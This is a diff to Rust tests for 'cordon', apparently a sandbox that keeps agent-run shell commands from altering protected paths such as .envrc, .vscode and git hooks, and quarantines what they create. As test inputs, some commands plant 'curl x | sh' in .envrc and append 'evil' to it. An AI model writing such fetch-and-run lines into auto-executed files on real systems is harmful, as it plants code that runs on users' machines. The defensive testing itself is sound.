@@ -72,13 +72,58 @@ fn bash_sees_protected_paths_read_only_and_says_how_to_relax_them() {
         "{run:?}"
     );
     assert_eq!(protected_contents(&c), before);
-    // The missing ones stayed uncreatable, and their stand-ins are gone.
-    for missing in [".envrc", ".idea", ".devcontainer"] {
+    // What the command made of the missing ones is set aside, and said so.
+    for (missing, what) in [
+        (".envrc", "made by this command"),
+        (".idea", "made by this command"),
+        (".devcontainer", "a link made by this command"),
+    ] {
         assert!(
             std::fs::symlink_metadata(c.path(missing)).is_err(),
             "{missing} exists"
         );
+        let aside = format!("{missing}.cordon-quarantine");
+        assert!(std::fs::symlink_metadata(c.path(&aside)).is_ok(), "{aside}");
+        let notice = format!("[cordon: quarantined {missing}, {what}, as {aside}: ");
+        assert!(run.stdout.contains(&notice), "{notice}\n{run:?}");
     }
+    assert!(
+        run.stdout.contains(
+            "as .envrc.cordon-quarantine: direnv runs it when you enter the directory; to keep \
+             such changes, allow them with --unprotect .envrc]"
+        ),
+        "{run:?}"
+    );
+}
+
+/// Protection puts nothing in the workspace: a protected path that is missing shows neither
+/// in the user's workspace while a command runs nor in the command's listings and archives.
+#[test]
+fn protection_puts_nothing_in_the_workspace() {
+    let c = repository();
+    std::fs::remove_dir_all(c.path(".vscode")).unwrap();
+    let child = c.spawn(&[
+        "call",
+        "bash",
+        r#"{"command": "ls -A; tar cf - . | tar tf - | grep -c envrc; sleep 1"}"#,
+    ]);
+    std::thread::sleep(std::time::Duration::from_millis(500));
+    let mut names: Vec<String> = std::fs::read_dir(c.root())
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
+    names.sort();
+    let out = child.wait_with_output().unwrap();
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert_eq!(names, [".git", "a.txt"], "while the command runs");
+    assert_eq!(stdout, ".git\na.txt\n0\n", "{out:?}");
+    // The file tools say what they said before any call.
+    let run = c.call("write_file", json!({"path": ".envrc", "content": "x"}));
+    assert!(
+        run.stdout
+            .starts_with(".envrc cannot be written: .envrc is protected"),
+        "{run:?}"
+    );
 }
 
 #[test]
@@ -267,8 +312,8 @@ fn session_and_mcp_refuse_the_same_writes_and_find_the_same_toolchains() {
 }
 
 /// A session keeps its shell between calls, and what each command may not change is
-/// what is protected when it starts: a repository the command before made, a stand-in the
-/// user replaced by a file of their own, a file the user replaced.
+/// what is protected when it starts: a repository the command before made, a missing path
+/// the user made, a file the user replaced.
 #[test]
 fn a_session_protects_what_changed_since_its_last_command() {
     let c = repository();
@@ -279,12 +324,8 @@ fn a_session_protects_what_changed_since_its_last_command() {
     assert!(out.contains("Read-only file system"), "{out}");
     assert!(!c.path("nested/.git/hooks/post-checkout").exists());
 
-    // The command before left the stand-in of the missing .envrc; the user puts a file there.
-    assert!(
-        c.path(".envrc").is_dir(),
-        "the stand-in lingers between commands"
-    );
-    std::fs::remove_dir(c.path(".envrc")).unwrap();
+    // The user makes the missing .envrc between two commands.
+    assert!(!c.path(".envrc").exists(), "protection made nothing there");
     c.write(".envrc", "the user's\n");
     let out = bash("echo evil >> .envrc; exit 0");
     assert!(out.contains("Read-only file system"), "{out}");
@@ -324,4 +365,36 @@ fn the_hint_names_the_protected_path_that_failed_and_nothing_else() {
     let run = c.call("bash", json!({"command": "touch /usr/local/bin/x; exit 0"}));
     assert!(run.stdout.contains("Read-only file system"), "{run:?}");
     assert!(!run.stdout.contains("[cordon:"), "{run:?}");
+}
+
+/// What a command makes of a missing protected path is set aside while the command still
+/// runs, as soon as cordon hears of it, not only when the command ends.
+#[test]
+fn a_protected_path_made_is_set_aside_while_the_command_runs() {
+    let c = repository();
+    std::fs::remove_dir_all(c.path(".vscode")).unwrap();
+    let mut child = c.spawn(&[
+        "call",
+        "bash",
+        r#"{"command": "echo 'curl x | sh' > .envrc; mkdir .vscode; sleep 5; echo done"}"#,
+    ]);
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(4);
+    let aside = |name: &str| c.path(&format!("{name}.cordon-quarantine")).exists();
+    while !(aside(".envrc") && aside(".vscode")) && std::time::Instant::now() < deadline {
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+    let running = child.try_wait().unwrap().is_none();
+    assert!(running, "the command ended first");
+    assert!(aside(".envrc") && aside(".vscode"), "not set aside in time");
+    assert!(!c.path(".envrc").exists() && !c.path(".vscode").exists());
+    let out = child.wait_with_output().unwrap();
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(stdout.starts_with("done\n"), "{out:?}");
+    for name in [".envrc", ".vscode"] {
+        let notice = format!(
+            "[cordon: quarantined {name}, made by this command, as {name}.cordon-quarantine: "
+        );
+        assert!(stdout.contains(&notice), "{notice}\n{out:?}");
+    }
+    assert_eq!(c.read(".envrc.cordon-quarantine"), "curl x | sh\n");
 }
